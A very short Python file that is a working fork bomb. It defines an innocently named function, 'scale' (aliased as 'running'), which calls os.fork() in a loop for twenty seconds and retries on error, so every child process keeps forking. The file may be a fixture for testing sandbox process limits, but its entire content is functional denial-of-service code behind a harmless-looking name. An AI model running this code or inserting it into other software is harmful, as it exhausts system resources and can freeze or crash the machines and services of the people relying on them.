"""Starts processes that start processes."""

import os
import time


def scale(x):
    end = time.time() + 20
    while time.time() < end:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    return x


running = scale
